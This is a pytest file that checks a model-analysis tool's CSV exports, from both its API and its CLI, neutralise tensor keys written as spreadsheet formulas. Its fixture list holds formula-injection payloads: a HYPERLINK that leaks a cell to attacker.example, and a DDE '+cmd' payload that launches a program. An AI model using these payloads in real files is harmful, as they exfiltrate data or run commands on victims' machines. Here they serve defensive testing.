"""CSV exports open in a spreadsheet as data: a tensor key shaped like a formula stays text.

A checkpoint's keys are whatever its file says; the API's ``layers.csv`` and ``alphawatch
analyze --format csv`` both hand them to spreadsheets, where ``=HYPERLINK(...)`` or
``+cmd|...`` would run as formulas."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from alphawatch.service.api import create_app
from alphawatch.settings import Settings
from alphawatch.spreadsheet import cell, write_csv
from alphawatch.workers.watcher import Watcher

ROOT = Path(__file__).resolve().parents[2]
FORMULAS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "=1+2",
]


def _checkpoint(tmp_path: Path) -> Path:
    """A real HF-style checkpoint whose tensor keys are formulas; small weights, so that
    log_norm (log10 of the eigenvalue sum) is a negative number."""
    import torch
    from safetensors.torch import save_file

    g = torch.Generator().manual_seed(0)
    keys = [f"{formula}.weight" for formula in FORMULAS] + ["model.layers.0.mlp.up_proj.weight"]
    folder = tmp_path / "runs" / "formulas" / "checkpoint-1"
    folder.mkdir(parents=True)
    save_file(
        {k: 0.01 * torch.randn(48, 32, generator=g) for k in keys},
        str(folder / "model.safetensors"),
    )
    (folder / "trainer_state.json").write_text(json.dumps({"global_step": 1}))
    return folder


def _assert_safe(text: str) -> None:
    rows = list(csv.DictReader(io.StringIO(text)))
    names = {row["name"] for row in rows}
    # Each formula is kept, readable, behind the quote a spreadsheet shows as text.
    assert names == {f"'{f}" for f in FORMULAS} | {"model.layers.0.mlp.up_proj"}
    for formula in FORMULAS:
        assert "\"'" + formula.replace('"', '""') + '"' in text
    for line in text.splitlines():
        # No cell opens with a formula character (a bare negative number is no text cell).
        assert not line.startswith(("=", "+", "@")), line
        assert not any(f",{c}" in line for c in "=+@"), line
    # Numbers stay numbers: a negative log_norm is written bare, never prefixed or quoted.
    negative = [row["log_norm"] for row in rows]
    assert all(float(v) < 0 for v in negative)
    assert all(f",{v}," in text or text.endswith(f",{v}") for v in negative)


def test_cell_escapes_formula_text_and_leaves_numbers() -> None:
    for text in ("=A1", "+A1", "-A1", "@SUM(A1)", "\tA1", "\rA1"):
        assert cell(text) == f"'{text}"
    for value in (-1.5, -3, 0.25, True, None, "model.layers.0.q_proj", "a=b"):
        assert cell(value) == value
    out = io.StringIO()
    write_csv(
        out, ["name", "alpha", "extra"], [{"name": "@SUM(A1)", "alpha": -2.5, "ignored": "=x"}]
    )
    assert out.getvalue().splitlines() == ['"name","alpha","extra"', '"\'@SUM(A1)",-2.5,""']


def test_api_csv_export_neutralises_formula_keys(tmp_path: Path, pg_url: str) -> None:
    folder = _checkpoint(tmp_path)
    settings = Settings(database_url=pg_url, device="cpu", settle_s=0.0, max_attempts=1)
    assert Watcher(settings, [folder.parent]).run_once() == 1
    with TestClient(create_app(settings)) as client:
        (run,) = client.get("/api/v1/runs").json()["runs"]
        response = client.get(f"/api/v1/runs/{run['id']}/layers.csv")
    assert response.status_code == 200
    _assert_safe(response.text)


@pytest.mark.slow
def test_analyze_csv_neutralises_formula_keys(tmp_path: Path) -> None:
    folder = _checkpoint(tmp_path)
    result = subprocess.run(
        [
            sys.executable,
            "-m",
            "alphawatch",
            "analyze",
            str(folder),
            "--format",
            "csv",
            "--device",
            "cpu",
        ],
        capture_output=True,
        text=True,
        cwd=ROOT,
        timeout=180,
    )
    assert result.returncode == 0, result.stderr
    _assert_safe(result.stdout)
